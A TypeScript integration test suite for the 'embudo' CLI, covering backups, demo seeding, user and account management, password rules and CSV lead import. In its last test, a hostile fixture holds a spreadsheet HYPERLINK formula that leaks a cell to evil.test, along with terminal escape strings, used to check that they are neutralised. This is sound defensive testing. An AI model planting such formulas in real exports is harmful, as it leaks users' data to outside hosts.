import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { parse as parseCsv } from 'csv-parse/sync';
import { TEST_DIALECTS } from '../../test/databases';
import { openDatabase, type Db } from '../db';
import { createServices, type Services } from '../services';

const run = promisify(execFile);
const CLI = join(import.meta.dirname, 'main.ts');
const TSX = join(import.meta.dirname, '../../../../node_modules/.bin/tsx');

/** The shape the demo command promises (issue: "prints exactly this shape"). */
const DemoOutput = z.object({
  baseUrl: z.string(),
  accountSlug: z.string(),
  apiKey: z.string(),
  funnels: z.array(
    z.object({
      id: z.string(),
      name: z.string(),
      pages: z.array(z.object({ id: z.string(), position: z.number(), buttonAction: z.string() })),
      leads: z.array(z.object({ name: z.string(), token: z.string(), url: z.string() })),
      previewUrl: z.string(),
    }),
  ),
  /** How to sign in to the Studio as the demo's owner (issue 18). */
  studio: z.strictObject({ url: z.string(), email: z.string(), password: z.string().nullable() }),
});

describe.each(TEST_DIALECTS)('embudo CLI on %s', (dialect) => {
  let dir: string;
  let databaseUrl: string;
  let schema: string | undefined;

  const embudo = async (...args: string[]) => {
    try {
      const { stdout, stderr } = await run(TSX, [CLI, ...args], {
        env: { ...process.env, DATABASE_URL: databaseUrl, PUBLIC_URL: 'http://localhost:3000' },
      });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const e = error as { code: number; stdout: string; stderr: string };
      return { code: e.code, stdout: e.stdout, stderr: e.stderr };
    }
  };

  /** Whether the password signs the user in, checked by the server's own services on the CLI's database. */
  const withServices = async <T>(use: (services: Services, db: Db) => Promise<T>): Promise<T> => {
    const database = openDatabase(databaseUrl);
    try {
      const services = await createServices(database, {
        publicUrl: 'http://localhost:3000',
        baseDomains: [],
      });
      return await use(services, database.db);
    } finally {
      await database.close();
    }
  };
  const passwordWorks = (email: string, password: string) =>
    withServices(async (services) => (await services.users.checkPassword(email, password)) !== undefined);
  /** The user's sessions, after opening one first when asked. */
  const sessionCount = (email: string, open: boolean) =>
    withServices(async (services, db) => {
      const found = await services.users.findByEmail(email);
      if (!found) throw new Error(`no user ${email}`);
      const membership = (await services.members.membershipsOf(found.id))[0];
      if (open && membership) await services.sessions.start(found.id, membership.account.id);
      return (await db.selectFrom('sessions').select('id').where('userId', '=', found.id).execute()).length;
    });

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'embudo-cli-'));
    if (dialect === 'sqlite') {
      databaseUrl = `sqlite:${join(dir, 'cli.db')}`;
    } else {
      const base = process.env.TEST_DATABASE_URL ?? '';
      schema = `cli_${Date.now().toString(36)}`;
      const client = new pg.Client({ connectionString: base });
      await client.connect();
      await client.query(`create schema ${schema}`);
      await client.end();
      const url = new URL(base);
      url.searchParams.set('options', `-c search_path=${schema}`);
      databaseUrl = url.toString();
    }
  });

  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    if (schema) {
      const client = new pg.Client({ connectionString: process.env.TEST_DATABASE_URL });
      await client.connect();
      await client.query(`drop schema ${schema} cascade`);
      await client.end();
    }
  });

  it('backup copies the embedded database to a new file, and points PostgreSQL to pg_dump', async () => {
    expect((await embudo('demo')).code).toBe(0);
    const copy = join(dir, 'backup.db');
    const result = await embudo('backup', copy);
    if (dialect === 'postgres') {
      expect(result.code).toBe(1);
      expect(result.stderr).toContain('pg_dump');
      return;
    }
    expect(result.code, result.stderr).toBe(0);
    const original = openDatabase(databaseUrl);
    const backup = openDatabase(`sqlite:${copy}`);
    try {
      const slugs = async (db: Db) =>
        (await db.selectFrom('accounts').select('slug').orderBy('slug').execute()).map((a) => a.slug);
      expect(await slugs(backup.db)).toEqual(await slugs(original.db));
      expect(await slugs(backup.db)).toContain('demo');
    } finally {
      await original.close();
      await backup.close();
    }
    // A second backup never overwrites the first.
    const again = await embudo('backup', copy);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('exists already');
  });

  it('demo --json prints the promised shape, the same twice, without duplicating data', async () => {
    const first = await embudo('demo', '--json');
    expect(first.code, first.stderr).toBe(0);
    const second = await embudo('demo', '--json');
    expect(second.code, second.stderr).toBe(0);
    const demo = DemoOutput.parse(JSON.parse(first.stdout));
    expect(JSON.parse(second.stdout)).toEqual(JSON.parse(first.stdout));
    expect(demo.accountSlug).toBe('demo');
    expect(demo.studio).toEqual({
      url: 'http://localhost:3000/studio',
      email: 'owner@demo.example.com',
      password: expect.stringMatching(/^[A-Za-z0-9_-]{32}$/) as string,
    });
    expect(await passwordWorks(demo.studio.email, demo.studio.password ?? '')).toBe(true);
    expect(demo.funnels.map((f) => f.pages.map((p) => p.buttonAction))).toEqual([
      ['NEXT-PAGE', 'NEXT-PAGE', 'OFFERT'],
      ['LPI-REDIRECT-WPP'],
    ]);
    for (const funnel of demo.funnels) {
      for (const lead of funnel.leads) expect(lead.url).toBe(`http://localhost:3000/demo/${lead.token}`);
    }
    const leadsListed = await embudo(
      'lead',
      'list',
      '--account',
      'demo',
      '--funnel',
      demo.funnels[0]?.id ?? '',
      '--json',
    );
    expect((JSON.parse(leadsListed.stdout) as { items: unknown[] }).items).toHaveLength(3);
    const accounts = await embudo('account', 'list', '--json');
    expect((JSON.parse(accounts.stdout) as { slug: string }[]).map((a) => a.slug).sort()).toEqual([
      'demo',
      'enigma',
    ]);
  });

  it('creates a user (printing a generated password once), adds them to an account, and resets the password', async () => {
    const created = await embudo('user', 'create', '--email', 'Ana@Example.com', '--name', 'Ana', '--json');
    expect(created.code, created.stderr).toBe(0);
    const first = z
      .object({ user: z.object({ id: z.string(), email: z.string() }), password: z.string() })
      .parse(JSON.parse(created.stdout));
    expect(first.user.email).toBe('ana@example.com');
    expect(first.password).toMatch(/^[A-Za-z0-9_-]{20}$/);
    expect(await passwordWorks('ana@example.com', first.password)).toBe(true);

    const twice = await embudo('user', 'create', '--email', 'ana@example.com', '--name', 'Ana');
    expect(twice.code).toBe(1);
    expect(twice.stderr).toContain('a user with the e-mail ana@example.com already exists');
    const common = await embudo(
      'user',
      'create',
      '--email',
      'b@example.com',
      '--name',
      'B',
      '--password',
      'qwertyuiop',
    );
    expect(common.code).toBe(1);
    expect(common.stderr).toContain('this password is too common');
    const short = await embudo(
      'user',
      'create',
      '--email',
      'b@example.com',
      '--name',
      'B',
      '--password',
      'short',
    );
    expect(short.code).toBe(1);
    expect(short.stderr).toContain('password: at least 10 characters');
    const given = await embudo(
      'user',
      'create',
      '--email',
      'b@example.com',
      '--name',
      'B',
      '--password',
      'my own long passphrase',
    );
    expect(given.code, given.stderr).toBe(0);
    expect(given.stdout).not.toContain('my own long passphrase');

    const account = await embudo('account', 'create', '--slug', 'studio-co', '--name', 'Studio Co');
    expect(account.code, account.stderr).toBe(0);
    const added = await embudo(
      'member',
      'add',
      '--email',
      'ana@example.com',
      '--account',
      'studio-co',
      '--role',
      'editor',
    );
    expect(added.code, added.stderr).toBe(0);
    expect(added.stdout).toContain("ana@example.com is now editor of 'studio-co'");
    const again = await embudo(
      'member',
      'add',
      '--email',
      'ana@example.com',
      '--account',
      'studio-co',
      '--role',
      'owner',
    );
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("already a member of 'studio-co' as editor");
    const badRole = await embudo(
      'member',
      'add',
      '--email',
      'b@example.com',
      '--account',
      'studio-co',
      '--role',
      'admin',
    );
    expect(badRole.code).toBe(1);
    expect(badRole.stderr).toContain('role:');
    const nobody = await embudo(
      'member',
      'add',
      '--email',
      'nobody@example.com',
      '--account',
      'studio-co',
      '--role',
      'viewer',
    );
    expect(nobody.code).toBe(1);
    expect(nobody.stderr).toContain('no user with the e-mail nobody@example.com');

    const signedIn = await sessionCount('ana@example.com', true);
    expect(signedIn).toBe(1);
    const reset = await embudo('user', 'reset-password', '--email', 'ana@example.com', '--json');
    expect(reset.code, reset.stderr).toBe(0);
    const { password } = z.object({ password: z.string() }).parse(JSON.parse(reset.stdout));
    expect(password).not.toBe(first.password);
    expect(await passwordWorks('ana@example.com', first.password)).toBe(false);
    expect(await passwordWorks('ana@example.com', password)).toBe(true);
    // The reset ended the session opened before it.
    expect(await sessionCount('ana@example.com', false)).toBe(0);
    // Ten CLI processes, each starting TypeScript and hashing passwords: more than the tier's 30 s on a busy machine.
  }, 90_000);

  it('creates an account once, prints its key once, and refuses a taken slug', async () => {
    const created = await embudo('account', 'create', '--slug', 'acme', '--name', 'Acme', '--json');
    expect(created.code, created.stderr).toBe(0);
    expect((JSON.parse(created.stdout) as { apiKey: string }).apiKey).toMatch(/^emb_/);
    const again = await embudo('account', 'create', '--slug', 'acme', '--name', 'Acme');
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("the slug 'acme' is taken");
    const reserved = await embudo('account', 'create', '--slug', 'api', '--name', 'Nope');
    expect(reserved.code).toBe(1);
    expect(reserved.stderr).toContain('reserved');
  });

  it('analytics rebuild replays every account, or the one named, and refuses an unknown one', async () => {
    expect((await embudo('account', 'create', '--slug', 'rebuilt', '--name', 'Rebuilt')).code).toBe(0);
    const all = await embudo('analytics', 'rebuild', '--json');
    expect(all.code, all.stderr).toBe(0);
    const { rebuilt } = JSON.parse(all.stdout) as { rebuilt: { account: string; leads: number }[] };
    expect(rebuilt.map((r) => r.account)).toContain('rebuilt');
    const one = await embudo('analytics', 'rebuild', '--account', 'rebuilt');
    expect(one.code, one.stderr).toBe(0);
    expect(one.stdout).toBe(
      'rebuilt: 0 leads, 0 sessions, 0 video records, 0 actions, 0 conversions replayed\n',
    );
    const unknown = await embudo('analytics', 'rebuild', '--account', 'nobody-here');
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain("no account with the slug 'nobody-here'");
  });

  it('imports leads from CSV, writes their links, and imports nothing when a row is bad', async () => {
    const funnel = await embudo('funnel', 'create', '--account', 'acme', '--name', 'Launch', '--json');
    const funnelId = (JSON.parse(funnel.stdout) as { id: string }).id;
    const good = join(dir, 'good.csv');
    writeFileSync(
      good,
      `name,email,phone\n${Array.from({ length: 1100 }, (_, i) => `Lead ${i},l${i}@example.com,+52 55 ${1000 + i}`).join('\n')}\n`,
    );
    const out = join(dir, 'links.csv');
    const imported = await embudo(
      'lead',
      'import',
      '--account',
      'acme',
      '--funnel',
      funnelId,
      '--file',
      good,
      '--out',
      out,
    );
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain('1100 leads imported');
    const lines = readFileSync(out, 'utf8').trimEnd().split('\r\n');
    expect(lines).toHaveLength(1101);
    // A phone starting with + is neutralised like any cell a spreadsheet would compute.
    expect(lines[1]).toMatch(
      /^Lead 0,l0@example\.com,'\+52 55 1000,http:\/\/localhost:3000\/acme\/[A-Za-z0-9_-]{32}$/,
    );

    const bad = join(dir, 'bad.csv');
    writeFileSync(bad, 'name,email\nFine,fine@example.com\n,not-an-email\n');
    const refused = await embudo('lead', 'import', '--account', 'acme', '--funnel', funnelId, '--file', bad);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('line 3');
    const listed = await embudo(
      'lead',
      'list',
      '--account',
      'acme',
      '--funnel',
      funnelId,
      '--limit',
      '200',
      '--json',
    );
    const page = JSON.parse(listed.stdout) as { items: { name: string }[]; nextCursor: string | null };
    expect(page.items[0]?.name).toBe('Lead 0');
    expect(page.items.some((l) => l.name === 'Fine')).toBe(false);
  });

  it('writes hostile names as inert CSV cells and never prints control characters to the terminal', async () => {
    const funnel = await embudo('funnel', 'create', '--account', 'acme', '--name', 'Hostile', '--json');
    const funnelId = (JSON.parse(funnel.stdout) as { id: string }).id;
    const formula = '=HYPERLINK("http://evil.test/leak?"&D3,"Ver")';
    const clear = 'Eve\u001b[2J\u001b[H\u009b31m\u202eevil';
    const split = 'Carriage\rReturn';
    const file = join(dir, 'hostile.csv');
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    writeFileSync(file, `name,phone\n${quote(formula)},\n${quote(clear)},\n${quote(split)},+1 555 0100\n`);
    const out = join(dir, 'hostile-links.csv');
    const imported = await embudo(
      'lead',
      'import',
      '--account',
      'acme',
      '--funnel',
      funnelId,
      '--file',
      file,
      '--out',
      out,
    );
    expect(imported.code, imported.stderr).toBe(0);
    const rows = parseCsv<Record<string, string>>(readFileSync(out, 'utf8'), { columns: true });
    // Three records, the carriage return kept inside its cell, the formula shown as text.
    expect(rows.map((r) => r.name)).toEqual([`'${formula}`, clear, split]);
    expect(rows.every((r) => /^http:\/\/localhost:3000\/acme\/[A-Za-z0-9_-]{32}$/.test(r.url ?? ''))).toBe(
      true,
    );

    for (const args of [
      ['lead', 'list', '--account', 'acme', '--funnel', funnelId],
      ['lead', 'list', '--account', 'acme', '--funnel', funnelId, '--json'],
      ['lead', 'import', '--account', 'acme', '--funnel', funnelId, '--file', file],
    ]) {
      const printed = await embudo(...args);
      expect(printed.code, printed.stderr).toBe(0);
      // No ESC, CSI, CR or bidi override reaches the terminal; the text shows them escaped.
      // eslint-disable-next-line no-control-regex -- looking for control characters is the point
      expect(printed.stdout).not.toMatch(/[\u001b\u009b\r\u202e]/);
    }
    const listed = await embudo('lead', 'list', '--account', 'acme', '--funnel', funnelId);
    expect(listed.stdout).toContain('Eve\\x1b[2J\\x1b[H\\x9b31m\\u{202e}evil');
    expect(listed.stdout).toContain('Carriage\\x0dReturn');
    const json = await embudo('lead', 'list', '--account', 'acme', '--funnel', funnelId, '--json');
    const names = (JSON.parse(json.stdout) as { items: { name: string }[] }).items.map((l) => l.name);
    expect(names).toContain(clear);
  });
});
